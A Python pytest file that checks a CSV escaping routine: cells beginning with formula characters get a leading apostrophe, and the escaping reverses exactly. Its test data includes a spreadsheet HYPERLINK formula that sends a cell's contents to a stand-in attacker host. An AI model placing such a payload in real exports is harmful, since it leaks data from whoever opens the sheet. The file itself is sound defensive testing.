"""CSV cells that a spreadsheet would run as formulas are escaped, and read back unchanged."""

from __future__ import annotations

import csv
import io

import pytest

from zonewatch.csvcells import SafeDictWriter, SafeWriter, neutralise_cell, restore_cell

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
HARMLESS = ["송도 바이오 클러스터", "kim@example.org", "a=b", "1-2", "", " =1"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_starts_are_escaped_with_one_apostrophe(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_plain_text_is_written_as_it_is(value: str) -> None:
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", [-1, -0.5, 3, None, True])
def test_numbers_and_other_values_are_not_text_and_stay(value: object) -> None:
    assert neutralise_cell(value) is value


@pytest.mark.parametrize("value", [*DANGEROUS, *HARMLESS, "'=1", "'", "''", "'quoted'"])
def test_restore_undoes_neutralise_exactly(value: str) -> None:
    assert restore_cell(neutralise_cell(value)) == value


def test_a_hand_written_apostrophe_before_plain_text_is_kept() -> None:
    assert restore_cell("'tis") == "'tis"


def test_writers_escape_every_row_cell() -> None:
    out = io.StringIO()
    SafeWriter(out).writerow(["=1+1", "ok", -3])
    writer = SafeDictWriter(out, ["a", "b"])
    writer.writeheader()
    writer.writerow({"a": "@cmd", "b": "ok"})
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=1+1", "ok", "-3"], ["a", "b"], ["'@cmd", "ok"]]
